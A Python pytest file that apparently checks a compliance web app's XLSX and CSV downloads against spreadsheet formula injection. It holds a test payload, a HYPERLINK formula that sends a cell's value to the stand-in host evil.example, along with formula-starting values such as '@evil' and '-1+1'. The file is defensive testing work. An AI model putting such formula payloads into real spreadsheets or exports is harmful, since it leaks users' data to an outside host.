"""The downloads served by the app keep a hostile cell as text: the sampling XLSX's audit name
from the URL, and the alerts CSV's login, vendor and detail."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from urllib.parse import urlencode

import pytest
from openpyxl import load_workbook

from codingwatch.web.accounts import roles
from codingwatch.web.provenance.models import ProvenanceAlert
from tests.web import provenance_fixtures as pf

pytestmark = [pytest.mark.django_db]
compliance = pf.compliance
LINK = '=HYPERLINK("http://evil.example/?leak="&B5,"open the audit")'


@pytest.fixture
def auditor(roster):
    from tests.web.conftest import make_user

    return make_user("ayo", roles.AUDITOR)


def test_the_random_numbers_xlsx_keeps_the_audit_name_as_text(login, auditor):
    query = urlencode({"seed": "10661935.55", "count": 10, "spares": 0, "low": 1, "high": 100, "audit_name": LINK})
    response = login(auditor).get(f"/sampling/random.xlsx?{query}")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheets = [book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in s for s in sheets)  # no formula anywhere in the workbook
    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == LINK)
    assert cell.data_type == "s" and sheet.cell(row=cell.row, column=1).value == "Audit/Review"
    assert all(c.data_type == "n" for row in sheet.iter_rows() for c in row if isinstance(c.value, int))


def test_the_alerts_csv_quotes_a_hostile_login_vendor_and_detail(client, compliance):
    start = dt.datetime(2026, 3, 2, 9, tzinfo=dt.UTC)
    ProvenanceAlert.objects.create(fingerprint="f1", rule="forbidden_country", severity="high", login="@evil",
                                   vendor_code="-1+1", window_start=start, window_end=start, event_count=3,
                                   detail=LINK, organization=compliance.organization)
    client.force_login(compliance)
    rows = list(csv.reader(io.StringIO(client.get("/provenance/alerts.csv").content.decode())))
    header, row = rows[0], rows[1]
    assert (row[header.index("login")], row[header.index("vendor")], row[header.index("detail")]) == (
        "'@evil", "'-1+1", "'" + LINK)
    assert row[header.index("event_count")] == "3"
